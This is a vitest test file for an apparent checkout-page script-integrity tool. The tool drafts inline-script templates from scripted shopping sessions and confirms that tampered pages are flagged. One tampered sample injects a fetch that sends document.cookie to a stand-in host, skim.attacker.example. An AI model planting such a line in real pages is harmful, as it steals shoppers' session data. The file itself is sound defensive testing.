/**
 * Issue 18 item 4: an inventory that sees what a shopper sees. `payguard inventory` runs scripted
 * steps in two sessions (the product page's form key, add to cart: only then does /checkout exist)
 * and fetches each page several times; inline code whose literals vary is drafted as a template
 * with typed slots, static code by hash. The draft, justified, then verifies fresh renderings of
 * new sessions clean on a block route, and the tampered ones not.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePolicyText } from '../../src/policy/parse.js';
import type { Policy } from '../../src/policy/model.js';
import { verifyDocument } from '../../src/verify/index.js';
import { buildCliAsync, runPayguard } from '../helpers/cli.js';
import { startSessionShop, type SessionShop } from './session-shop.js';

let shop: SessionShop;
let dir: string;

beforeAll(async () => {
  await buildCliAsync();
  shop = await startSessionShop();
  dir = mkdtempSync(join(tmpdir(), 'payguard-inventory-templates-'));
  writeFileSync(join(dir, 'steps.yaml'), 'steps:\n  - { get: /product/tee }\n  - { post: /cart/add, form: { form_key: "{{input:form_key}}", sku: TEE-1 } }\n');
}, 600_000);
afterAll(async () => {
  await shop?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

async function draft(args: string[], out: string): Promise<string> {
  const result = await runPayguard(['inventory', `${shop.origin}/checkout`, '--site', 'https://shop.example', '--out', join(dir, out), ...args]);
  expect(result.code, result.stderr).toBe(0);
  return readFileSync(join(dir, out), 'utf8');
}

const justified = (yaml: string): Policy => parsePolicyText(yaml.replaceAll('why: TODO', 'why: reviewed'), 'draft.yaml');

function verifyCheckout(policy: Policy, html: string) {
  return verifyDocument({ bytes: new TextEncoder().encode(html), url: 'https://shop.example/checkout', headers: [['content-type', 'text/html; charset=utf-8']], policy, mode: 'block' });
}

describe('payguard inventory with sessions, steps and renderings', () => {
  it('steps fill a JSON API from earlier answers: a cart id in the path, a CSRF header, a number in the body', async () => {
    const steps = join(dir, 'api-steps.yaml');
    writeFileSync(steps, [
      'steps:',
      '  - { get: /product/tee }',
      '  - { post: /api/carts, json: {} }',
      // The cart id comes from the JSON answer of the step before; the token from the product page two steps back.
      '  - { post: "/api/carts/{{json:data.cartId}}/items", json: { sku: TEE-1, qty: "{{json:data.items}}" }, headers: { x-csrf-token: "{{meta:csrf-token}}" } }',
      '',
    ].join('\n'));
    const result = await runPayguard(['inventory', `${shop.origin}/checkout`, '--site', 'https://shop.example', '--out', join(dir, 'api.yaml'), '--steps', steps, '--sessions', '2', '--renderings', '2']);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).not.toContain('step POST');
    // Only a cart with an item has a checkout: its inline code was reached and learned.
    expect(justified(readFileSync(join(dir, 'api.yaml'), 'utf8')).allow.inline.filter((e) => e.type === 'template')).toHaveLength(3);
  });

  it('a placeholder with nothing to fill it is reported with the step, and the crawl goes on', async () => {
    const steps = join(dir, 'bad-steps.yaml');
    writeFileSync(steps, 'steps:\n  - { post: "/api/carts/{{json:data.nothing}}/items", json: { sku: TEE-1, qty: 1 } }\n');
    const result = await runPayguard(['inventory', `${shop.origin}/checkout`, '--site', 'https://shop.example', '--out', join(dir, 'bad.yaml'), '--steps', steps]);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toContain('no "data.nothing" in any JSON answer of the steps so far');
  });

  it('without steps the crawl never sees the checkout (an empty cart redirects)', async () => {
    const policy = justified(await draft([], 'no-steps.yaml'));
    expect(policy.allow.inline).toEqual([]);
  });

  it('with steps, two sessions and three renderings it drafts templates for what varies and a hash for what does not', async () => {
    const yaml = await draft(['--steps', join(dir, 'steps.yaml'), '--sessions', '2', '--renderings', '3'], 'learned.yaml');
    const policy = justified(yaml);
    const templates = policy.allow.inline.filter((e) => e.type === 'template');
    const hashes = policy.allow.inline.filter((e) => e.type === 'hash');
    expect(templates.map((t) => t.type === 'template' && t.template).sort()).toEqual([
      'return confirmOrder($slot$value3);',
      'var shopConfig = { formKey: $slot$formKey, requestTime: $slot$requestTime, currency: \'EUR\' };',
      // Keys stay written out; the per-session cart id is a string slot, the list of rows one JSON slot.
      'window.checkoutConfig = {"cartId":$slot$cartId,"items":$slot$items};',
    ]);
    expect(hashes).toHaveLength(1);
    expect(yaml).toContain('read each inline template');
    const config = templates.find((t) => t.type === 'template' && t.template.startsWith('var shopConfig'));
    expect(config?.type === 'template' && config.slots).toEqual({
      formKey: { type: 'string', charset: 'hex', length: [16, 16] },
      requestTime: { type: 'number', integer: true },
    });

    // 50 fresh renderings of new sessions with carts of every size: clean on a block route.
    for (let i = 0; i < 50; i++) {
      const verified = verifyCheckout(policy, shop.render(1 + (i % 6)));
      expect(verified.violations, `rendering ${i}`).toEqual([]);
    }
    // Tampered: code appended to a templated script, a foreign URL in the cart, a renamed key, a new handler.
    const clean = shop.render(2);
    const tampered = [
      clean.replace("currency: 'EUR' };", "currency: 'EUR' };fetch('https://skim.attacker.example/c?'+document.cookie);"),
      clean.replace(/"image":"[^"]*"/, '"image":"https://skim.attacker.example/p.jpg"'),
      clean.replace('formKey:', 'formKeyX:'),
      clean.replace('return confirmOrder(', 'return stealCard('),
    ];
    for (const page of tampered) expect(verifyCheckout(policy, page).violations.length, page).toBeGreaterThan(0);
  });
});
